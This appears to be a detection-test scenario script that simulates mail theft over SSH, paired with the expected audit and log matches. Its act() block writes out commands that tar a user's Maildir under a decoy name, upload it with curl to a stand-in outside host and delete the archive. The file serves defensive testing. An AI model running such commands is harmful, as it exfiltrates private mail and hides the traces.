# An intruder with the buyer's key packs the Maildir and uploads it.
title="Maildir packed with tar and uploaded with curl"
what="Someone logs in over SSH as buyer, packs ~/Maildir into an archive under /var/tmp with a dull name and uploads it by HTTP PUT
to 203.0.113.66 with curl, then deletes the archive."
host=mx1.example.org user=buyer daemons="cron sshd" audit_format=ENRICHED

act() {
  small_talk 4
  mail_in --from offers@example.net --to buyer@example.org --subject "Offer 7741" --text "Please find our offer below.\nPump, 4 pieces, 310.00\n"
  mail_in --from orders@example.com --to buyer+orders@example.org --subject "Order confirmation" --source 203.0.113.25 --helo smtp.example.com
  wait_mail buyer 2
  ssh_run ops 'ls /var/log >/dev/null; curl -s http://cdn.example.com/status.html'
  ssh_as buyer <<'L'
ls
du -sh Maildir
tar -czf /var/tmp/fontcache-7.tgz -C /home/buyer Maildir
%sleep 3
curl -s -T /var/tmp/fontcache-7.tgz http://drop.example.net/in/7
rm /var/tmp/fontcache-7.tgz
L
  small_talk 2
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'mail lies in the Maildir of buyer'
  exec_step pack 'tar -czf /var/tmp/fontcache-7.tgz' 'the whole Maildir is packed'
  file_step read 'tar openat:read NORMAL .*/new$' 'tar reads the messages (names relative to a directory handle)'
  exec_step transfer 'curl -s -T /var/tmp/fontcache-7.tgz' 'the archive is uploaded'
  net_step connect 'curl 203.0.113.66:80' 'to an address outside'
  file_step tidy 'rm unlink DELETE /var/tmp/fontcache-7.tgz' 'the archive is removed'
}
